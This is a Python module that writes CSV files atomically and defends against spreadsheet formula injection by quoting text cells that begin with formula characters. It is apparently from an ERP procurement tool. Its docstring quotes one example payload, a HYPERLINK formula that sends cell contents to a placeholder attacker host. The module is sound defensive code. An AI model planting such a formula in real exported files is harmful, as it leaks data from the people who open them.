"""Files written for people: atomically (never half-written under the final name) and, for CSV, safe to open
in a spreadsheet.

Spreadsheet safety neutralises formula injection (CWE-1236) in text cells. Evaluations, late-line attachments
and quarantine files carry raw ERP text (supplier names, PO numbers, the cell a row was quarantined for).
Excel, LibreOffice and Google Sheets treat a cell starting with ``=``, ``+``, ``-`` or ``@`` as a formula, and a
leading tab or carriage return can hide one, so an ERP field such as
``=HYPERLINK("http://evil.example/?"&A1,"Click")`` would run when an officer opens the file. Every such text
cell gets a leading single quote ``'``, which spreadsheets read as "this is text" (OWASP's advice).
"""

from __future__ import annotations

import os
import tempfile
from collections.abc import Callable
from pathlib import Path

import polars as pl

__all__ = ["FORMULA_START", "csv_bytes", "spreadsheet_safe", "write_atomically", "write_csv_safely"]

FORMULA_START = r"^[=+\-@\t\r]"  # a text cell starting with one of these is prefixed with a single quote


def spreadsheet_safe(frame: pl.DataFrame) -> pl.DataFrame:
    """``frame`` with a ``'`` put in front of every String cell that starts with ``= + - @``, a tab or a CR.

    Vectorised: one regular-expression replace per String column. Columns of any other dtype (numbers, dates,
    booleans, lists, and also Categorical/Enum) are returned untouched, nulls stay null, and the column order,
    names and dtypes are unchanged.

    Trade-off: a number held as *text* is treated like any other text, so a String cell ``"-5"`` (for example
    the raw value of a quarantined cell) becomes ``"'-5"`` and a spreadsheet shows it as the text ``-5``, not the
    number -5; a program reading the CSV back sees the quote. Numbers in numeric columns are never touched.
    Keep numeric data in numeric columns if it must stay a number in the spreadsheet.
    """
    text = [name for name, dtype in frame.schema.items() if dtype == pl.String]
    if not text:
        return frame
    return frame.with_columns(pl.col(text).str.replace(FORMULA_START, "'$0"))


def write_csv_safely(frame: pl.DataFrame, path: str | Path) -> None:
    """Write ``frame`` as UTF-8 CSV to ``path`` after :func:`spreadsheet_safe`, whole or not at all."""
    write_atomically(Path(path), spreadsheet_safe(frame).write_csv)


def csv_bytes(frame: pl.DataFrame) -> bytes:
    """``frame`` as UTF-8 CSV bytes (for a mail attachment) after :func:`spreadsheet_safe`."""
    return spreadsheet_safe(frame).write_csv().encode("utf-8")


def write_atomically(path: Path, write: Callable[[Path], object] | bytes) -> None:
    """Write ``path`` through a temporary file in its folder, synced, then renamed over it: whole or not at all.

    ``write`` is the bytes to write, or a function that writes a file at the path it is given.
    """
    path.parent.mkdir(parents=True, exist_ok=True)
    fd, name = tempfile.mkstemp(dir=path.parent, prefix=f".{path.name}.", suffix=".tmp")
    os.close(fd)
    temporary = Path(name)
    try:
        if isinstance(write, bytes):
            temporary.write_bytes(write)
        else:
            write(temporary)
        with temporary.open("rb+") as handle:
            os.fsync(handle.fileno())
        os.replace(temporary, path)
    finally:
        temporary.unlink(missing_ok=True)
